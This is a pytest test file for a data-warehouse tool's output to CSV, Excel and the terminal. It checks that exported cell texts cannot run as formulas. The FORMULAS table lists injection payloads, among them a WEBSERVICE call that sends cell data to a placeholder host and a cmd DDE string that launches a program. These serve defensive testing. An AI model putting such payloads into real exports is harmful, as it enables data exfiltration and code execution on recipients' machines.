"""Answers in files: whole tables, Excel workbooks whose texts stay texts, endings; and what a query may be given as."""

import csv
import io
import tempfile
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from conftest import Chest, start_lake, write_objects
from terminals import run_at_terminal

import warehouse
from warehouse.cli import box, excel
from warehouse.errors import UsageError


@pytest.fixture(scope="module")
def lake(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("answers")
    write_objects(root / "bucket", {"training/P1/data/2020-03-01/data.json": '{"Pseudonym": "P1", "Age": 40}'})
    warehouse.refresh(str(root / "bucket"), str(start_lake(root / "lake")))
    return root / "lake"


def test_a_table_in_a_pipe_is_whole(here: Chest, lake: Path) -> None:
    done = here("sql", "select range as n from range(25000)", "--lake", lake)
    lines = done.stdout.splitlines()
    assert len(lines) == 25_000 + 5
    assert len({len(line) for line in lines}) == 1
    assert [int(line.strip("│ ")) for line in lines[4:-1]] == list(range(25_000))


def test_an_excel_workbook_keeps_texts_and_types(here: Chest, lake: Path, tmp_path: Path) -> None:
    query = (
        "select '=1+1' as f, '+1' as p, '@x' as a, '-1' as m, 40 as n, 1.5 as d, date '2020-03-01' as day, "
        "true as yes, 9007199254740993 as big, null as nothing, 'http://x' as url, '007' as zeros, [1, 2] as list, "
        "date '1899-01-01' as old"
    )
    done = here("sql", query, "--lake", lake, "-o", tmp_path / "a.xlsx")
    assert done.returncode == 0, done.stderr
    names, row = openpyxl.load_workbook(tmp_path / "a.xlsx").active.iter_rows()  # type: ignore[union-attr]
    found = {name.value: cell for name, cell in zip(names, row, strict=True)}
    for name, text in {"f": "=1+1", "p": "+1", "a": "@x", "m": "-1", "url": "http://x", "zeros": "007"}.items():
        assert (found[name].data_type, found[name].value) == ("s", text)
    assert (found["n"].value, found["d"].value, found["yes"].value) == (40, 1.5, True)
    assert found["day"].value.date() == date(2020, 3, 1)  # type: ignore[union-attr]
    assert (found["big"].value, found["nothing"].value) == ("9007199254740993", None)
    assert (found["list"].value, found["old"].value) == ("[1, 2]", "1899-01-01")


def test_a_workbook_spools_where_the_next_start_tidies_up(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    seen: list[list[str]] = []

    def rows() -> Iterator[tuple[str]]:
        for _ in range(3):
            seen.append([path.name for path in tmp_path.iterdir()])
            yield ("x",)

    target = io.BytesIO()
    excel.write(["x"], rows(), target)
    assert all(len(names) == 1 and names[0].startswith("chest-tmp-") for names in seen)
    assert not [*tmp_path.iterdir()]
    assert target.getvalue().startswith(b"PK")


def test_a_row_at_a_terminal_is_one_line_whatever_it_holds(lake: Path) -> None:
    query = "select 'a' || chr(10) || 'FORGED' as x, 'b,\"' as y"
    for form in ("csv", "table"):
        code, seen = run_at_terminal("sql", query, "--lake", lake, "--format", form)
        assert code == 0
        assert not any(line.startswith(b"FORGED") for line in seen.splitlines()), seen


def test_what_excel_cannot_hold_is_refused(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="16,384 columns"):
        excel.write(["x"] * 16_385, [], tmp_path / "a.xlsx")
    with pytest.raises(UsageError, match="32,768 characters in x"):
        excel.write(["x"], [("y" * 32_768,)], tmp_path / "b.xlsx")
    rows = ((),) * 1_048_576
    with pytest.raises(UsageError, match="1,048,575 rows"):
        excel.write(["x"], rows, tmp_path / "c.xlsx")


@pytest.mark.parametrize("name", ["a.xls", "a.tsv", "a"])
def test_an_unknown_ending_names_the_known_ones(name: str, here: Chest, lake: Path, tmp_path: Path) -> None:
    done = here("sql", "select 1", "--lake", lake, "-o", tmp_path / name)
    assert (done.returncode, done.stdout) == (2, "")
    assert ".csv, .json, .parquet, .xlsx" in done.stderr
    assert not list(tmp_path.iterdir())


def test_csv_for_excel_has_a_byte_order_mark_and_other_csv_none(here: Chest, lake: Path, tmp_path: Path) -> None:
    for form, content in {"csv": b"a\n\xc3\xa9\n", "csv-excel": b"\xef\xbb\xbfa\r\n\xc3\xa9\r\n"}.items():
        here("sql", "select 'é' as a", "--lake", lake, "--format", form, "-o", tmp_path / "a.csv")
        assert (tmp_path / "a.csv").read_bytes() == content


#: Texts as a bucket may have them, and what a spreadsheet gets of each.
FORMULAS = {
    '=WEBSERVICE("http://x/"&A1)': '\'=WEBSERVICE("http://x/"&A1)',
    "  =1+1": "'  =1+1",
    "@SUM(A1)": "'@SUM(A1)",
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3": "'-2+3",
    "\t=1": "'\t'=1",
    "\r=1": "'\r'=1",
    "\uff1d1+1": "'\uff1d1+1",
    "\uff20SUM(A1)": "'\uff20SUM(A1)",
    "a;=1+1": "a;'=1+1",  # two cells where semicolons separate them
    'a;"=1+1': "a;'\"=1+1",
    "a\n=1+1": "a\n'=1+1",
    "-5": "-5",
    "+1.5e3": "+1.5e3",
    "A-B = C; D": "A-B = C; D",
    "=1": "'=1",
}


def test_excel_runs_no_text_of_the_lake_and_other_csv_has_it_exactly(here: Chest, lake: Path, tmp_path: Path) -> None:
    texts = ", ".join(f"({place}, '{text.replace(chr(39), chr(39) * 2)}')" for place, text in enumerate(FORMULAS))
    query = f'select s as "=name", -5 as n, -1.5::decimal(4, 1) as d from (values {texts}) v(i, s) order by i'
    for form, expected in {"csv": [*FORMULAS], "csv-excel": [*FORMULAS.values()]}.items():
        done = here("sql", query, "--lake", lake, "--format", form, "-o", tmp_path / "a.csv")
        assert done.returncode == 0, done.stderr
        with (tmp_path / "a.csv").open(encoding="utf-8-sig", newline="") as file:
            head, *rows = csv.reader(file)
        assert [row[0] for row in rows] == expected
        assert {tuple(row[1:]) for row in rows} == {("-5", "-1.5")}
        assert head[0] == ("=name" if form == "csv" else "'=name")
    here("sql", query, "--lake", lake, "-o", tmp_path / "a.xlsx")
    _, *cells = openpyxl.load_workbook(tmp_path / "a.xlsx").active.iter_rows()  # type: ignore[union-attr]
    assert {row[0].data_type for row in cells} == {"s"}
    assert {row[1].data_type for row in cells} == {"n"}


def test_a_query_may_be_a_file_or_stdin(chest: Chest, lake: Path, tmp_path: Path) -> None:
    (tmp_path / "q.sql").write_text("select 7 as n")
    for words, given in ((("sql", tmp_path / "q.sql"), ""), (("sql", "-"), "select 7 as n")):
        assert chest(*words, "--lake", lake, "--format", "csv", input=given).stdout == "n\n7\n"
    done = chest("sql", tmp_path / "none.sql", "--lake", lake)
    assert done.returncode == 2
    assert "cannot be read: No such file" in done.stderr


@pytest.mark.parametrize(
    ("kind", "given", "fits"),
    [
        ("INTEGER", "3.7", False),
        ("INTEGER", "3", True),
        ("INTEGER", "1_6", False),
        ("DOUBLE", "1_6.5", False),
        ("INTEGER", 2.5, False),
        ("DATE", "2020-03-01 12:00:00", False),
        ("DATE", "2020-03-01", True),
        ("BOOLEAN", "true", True),
        ("INTEGER[]", ["1", "2.5"], False),
        ("INTEGER[]", ["1", "2"], True),
    ],
)
def test_a_parameter_is_never_rounded(kind: str, given: object, fits: bool, lake: Path, tmp_path: Path) -> None:
    file = tmp_path / "mine.sql"
    file.write_text(
        "-- title: Mine\n-- question: Who?\n-- definition: All.\n-- grain: patient\n"
        f"-- param p {kind} = null: any\nselect patient_id from patients where $p is not null\n"
    )
    with warehouse.open(str(lake)) as wh:
        if fits:
            assert wh.cohort(file, p=given).rows.num_rows == 1
        else:
            with pytest.raises(UsageError, match="would become"):
                wh.cohort(file, p=given)


def test_a_box_shows_duplicate_names_nulls_and_no_rows(lake: Path) -> None:
    with warehouse.open(str(lake)) as wh:
        assert "NULL" in list(box.render_lines(wh.sql("select null as a, 1 as b")))[4]
        assert "0 rows" in list(box.render_lines(wh.sql("select 1 as a where false")))[4]
        assert len(list(box.render_lines(wh.sql("select 1 as a, 2 as a")))) == 6


def test_the_public_names_complete_and_types_ship() -> None:
    assert set(warehouse.__all__) <= set(dir(warehouse))
    assert (Path(warehouse.__file__).parent / "py.typed").exists()
